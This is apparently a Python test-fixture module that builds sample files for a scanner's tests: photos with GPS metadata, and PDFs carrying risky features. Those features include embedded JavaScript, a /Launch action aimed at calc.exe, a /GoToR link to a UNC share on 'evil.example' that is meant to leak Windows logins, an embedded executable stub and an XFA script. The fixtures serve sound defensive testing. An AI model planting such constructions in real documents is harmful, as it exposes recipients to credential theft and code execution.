"""Real files for the materials tests, made here with the same libraries a scanner's output is read
with: PDFs with pypdf, photos with Pillow (one carrying an EXIF GPS position)."""

import io

import pillow_heif
from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

GPS_TAG, GPS_LATITUDE = 0x8825, 2


def pdf(pages: int = 1, *, javascript: str | None = None, password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if javascript:
        # A document-level script in the catalog's /Names tree, as an authoring tool writes it.
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(javascript)}
        )
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("run"), action])})
        writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def photo_with_gps(fmt: str = "JPEG", size: tuple[int, int] = (64, 48)) -> bytes:
    image = Image.new("RGB", size, (200, 120, 40))
    exif = Image.Exif()
    exif[0x010F] = "Phone maker"  # Make
    exif[0x0112] = 6  # Orientation: rotated 90°, so the re-encoded photo comes out upright (48×64)
    exif.get_ifd(GPS_TAG)[GPS_LATITUDE] = (33.0, 55.0, 12.0)
    out = io.BytesIO()
    image.save(out, fmt, exif=exif)
    return out.getvalue()


def heic_with_gps(size: tuple[int, int] = (64, 48)) -> bytes:
    """A real HEIC photo as an iPhone sends it (HEVC-coded, with EXIF holding a GPS position and
    an orientation), encoded by pillow-heif's libheif."""
    image = Image.new("RGB", size, (200, 120, 40))
    exif = Image.Exif()
    exif[0x010F] = "Phone maker"
    exif[0x0112] = 6
    exif.get_ifd(GPS_TAG)[GPS_LATITUDE] = (33.0, 55.0, 12.0)
    out = io.BytesIO()
    pillow_heif.from_pillow(image).save(out, quality=80, exif=exif.tobytes())
    return out.getvalue()


def signature_png(size: tuple[int, int] = (600, 200)) -> bytes:
    """What a canvas gives for a drawn signature: a transparent PNG with a dark stroke on it."""
    image = Image.new("RGBA", size, (0, 0, 0, 0))
    draw = ImageDraw.Draw(image)
    draw.line([(40, 150), (120, 60), (200, 140), (300, 50), (420, 130)], fill=(17, 17, 17, 255), width=4)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def png(size: tuple[int, int] = (32, 32), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


def pdf_with_link_action(action: str) -> bytes:
    """A page whose link annotation runs an action when clicked (``/JavaScript``, ``/Launch``, ``/URI``)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    target = "/c/windows/system32/calc.exe" if action == "/Launch" else "app.alert(1)"
    if action == "/GoToR":  # opening a document on another host hands it a Windows login
        target = "\\\\evil.example\\share\\x.pdf"
    value_key = {"/Launch": "/F", "/GoToR": "/F", "/JavaScript": "/JS", "/URI": "/URI"}[action]
    if action == "/URI":
        target = "https://example.org/"
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): DictionaryObject(
                {NameObject("/S"): NameObject(action), NameObject(value_key): TextStringObject(target)}
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_annotation(subtype: str, entries: dict[str, object] | None = None) -> bytes:
    """A page carrying one annotation of ``subtype`` (``/FileAttachment`` with an embedded file: a
    program riding inside a scan)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([]),
        }
    )
    if subtype == "/FileAttachment":
        embedded = DecodedStreamObject()
        embedded.set_data(b"MZ\x90\x00 a Windows program")
        spec = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject("readme.pdf"),
                NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)}),
            }
        )
        annotation[NameObject("/FS")] = spec
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_xfa() -> bytes:
    """A form whose XFA stream (an XML form program, scripts included) readers like Adobe run."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([]), NameObject("/XFA"): writer._add_object(xfa)}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    """A photo whose JPEG comment segment (COM) carries text, as some cameras and editors write."""
    out = io.BytesIO()
    Image.new("RGB", (32, 24), (10, 20, 30)).save(out, "JPEG", comment=comment)
    return out.getvalue()
